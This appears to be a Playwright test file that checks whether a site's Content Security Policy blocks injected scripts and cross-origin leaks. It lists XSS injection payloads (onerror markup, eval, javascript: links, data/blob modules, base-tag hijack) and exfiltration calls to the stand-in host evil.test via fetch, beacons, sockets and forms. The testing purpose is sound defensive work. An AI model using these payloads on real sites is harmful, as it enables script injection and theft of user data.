import { createHash } from 'node:crypto'
import { elementsOf } from '#build/html.ts'
import { isInlineScript } from '#build/seal-page.ts'
import { allRoutes, routes } from '#lib/routes.ts'
import { functionalities } from '#lib/session/token.ts'
import { readFiles } from '#tests/support/built-site.ts'
import { noteFigure } from './support/figure.ts'
import { expect, failedRequest, test } from './support/test.ts'
import { triedRoutes, triedSignedIn } from './support/tried-routes.ts'

/** Attacks of an injected script. The policy has to block all of them. */
const attacks: Record<string, string> = {
  'markup with a handler': `document.body.innerHTML = '<img src=x onerror="window.hit=1">'`,
  'an inline script': `const s = document.createElement('script'); s.textContent = 'window.hit=1'; document.body.append(s)`,
  'a script of another origin': `const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; document.body.append(s)`,
  'a data script': `const s = document.createElement('script'); s.src = 'data:text/javascript,window.hit=1'; document.body.append(s)`,
  eval: `eval('window.hit=1')`,
  Function: `new Function('window.hit=1')()`,
  'a text timer': `setTimeout('window.hit=1', 0)`,
  'a handler attribute': `document.body.setAttribute('onclick', 'window.hit=1'); document.body.click()`,
  'a script address': `const a = document.createElement('a'); a.href = 'javascript:window.hit=1'; document.body.append(a); a.click()`,
  srcdoc: `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hit=1</script>'; document.body.append(f)`,
  'a module by text': `import('data:text/javascript,window.hit=1').catch(() => {})`,
  'a module by blob': `import(URL.createObjectURL(new Blob(['window.hit=1'], { type: 'text/javascript' }))).catch(() => {})`,
  'a worker by text': `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => { window.hit = 1 }`,
  base: `const b = document.createElement('base'); b.href = 'https://evil.test/'; document.head.append(b); if (document.baseURI.includes('evil')) window.hit = 1`,
}

/** Ways to send something to another origin without leaving the page. */
const channels: Record<string, string> = {
  fetch: `fetch('https://evil.test/?t').catch(() => {})`,
  'XML request': `const x = new XMLHttpRequest(); x.open('POST', 'https://evil.test/?t'); x.send('t')`,
  beacon: `navigator.sendBeacon('https://evil.test/?t', 't')`,
  image: `new Image().src = 'https://evil.test/?t'`,
  'web socket': `new WebSocket('wss://evil.test/?t')`,
  'event source': `new EventSource('https://evil.test/?t')`,
  'style sheet': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.test/?t'; document.head.append(l)`,
  prefetch: `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'https://evil.test/?t'; document.head.append(l)`,
  font: `const f = new FontFace('x', 'url(https://evil.test/?t)'); f.load().catch(() => {})`,
  video: `const v = document.createElement('video'); v.src = 'https://evil.test/?t'; document.body.append(v)`,
  form: `const f = document.createElement('form'); f.action = 'https://evil.test/?t'; document.body.append(f); f.submit()`,
  frame: `const f = document.createElement('iframe'); f.src = 'https://evil.test/?t'; document.body.append(f)`,
}

test('the policy of a page stops every injected script, and lets nothing out to another origin', {
  tag: ['@API-43', '@P2'],
}, async ({ page, signIn, allowConsole, context }) => {
  allowConsole(failedRequest)
  allowConsole(/Content Security Policy|Trusted|Refused|TrustedHTML|TrustedScript|violat|evil\.test/i)
  const out: string[] = []
  await context.route(/evil\.test/, (route) => {
    out.push(route.request().url())
    return route.abort()
  })
  page.on('websocket', (socket) => out.push(socket.url()))
  await signIn(...functionalities)
  const client = await context.newCDPSession(page)
  const run: string[] = []
  let tried = 0
  for (const { path, page: folder } of [...triedSignedIn, routes.login]) {
    if (path === routes.login.path) await page.evaluate(() => localStorage.clear())
    await page.goto(path.includes('{id}') ? `${folder}/?id=1` : path)
    await expect(page.locator('html')).toHaveAttribute('data-gate', 'open')
    for (const script of Object.values({ ...attacks, ...channels })) {
      const expression = `try { ${script} } catch {}`
      await client.send('Runtime.evaluate', { expression, allowUnsafeEvalBlockedByCSP: false })
      tried += 1
    }
    // None of the attempts needs more than two frames.
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))))
    if (await page.evaluate(() => 'hit' in window)) run.push(path)
  }
  expect(run).toEqual([])
  expect(out).toEqual([])
  // Without the elements of the attacks.
  await page.reload()
  const [scripts, ways, pages] = [attacks, channels, triedRoutes].map((list) => Object.keys(list).length)
  expect(tried).toBe(((scripts ?? 0) + (ways ?? 0)) * (pages ?? 0))
  noteFigure(
    2,
    `${scripts} injections and ${ways} channels on each of ${pages} pages: ${run.length} run, ${out.length} requests out`,
  )
})

test('every built page has its policy first, a hash for each inline block, and no code in an attribute', {
  tag: ['@P2'],
}, async () => {
  const files = await readFiles('dist')
  const pages = Object.entries(files).filter(([name]) => name.endsWith('.html'))
  const wrong: string[] = []
  let blocks = 0
  for (const [name, html] of pages) {
    const elements = elementsOf(html)
    const [charset, policy] = elements.filter(({ parent }) => parent === 'head')
    const content = policy?.attributes.get('content') ?? ''
    const isFirst =
      charset?.attributes.has('charset') && policy?.attributes.get('http-equiv') === 'Content-Security-Policy'
    if (!isFirst || /unsafe-|\*/.test(content)) wrong.push(`${name}: ${content}`)
    for (const element of elements) {
      for (const [attribute, value] of element.attributes) {
        if (/^(style|on.*)$/.test(attribute) || /^\s*javascript:/i.test(value))
          wrong.push(`${name}: ${attribute}=${value}`)
      }
      if (!isInlineScript(element) && element.tag !== 'style') continue
      blocks += 1
      const hash = createHash('sha256').update(element.text).digest('base64')
      if (!content.includes(`'sha256-${hash}'`)) wrong.push(`${name}: no hash of ${element.text.slice(0, 40)}`)
    }
  }
  expect(pages.length).toBeGreaterThanOrEqual(2 * allRoutes.length)
  expect(blocks).toBeGreaterThan(pages.length)
  expect(wrong).toEqual([])
  noteFigure(
    2,
    `${pages.length} built pages: policy first in each, ${blocks} inline blocks with their hash, ${wrong.length} with code in an attribute`,
  )
})
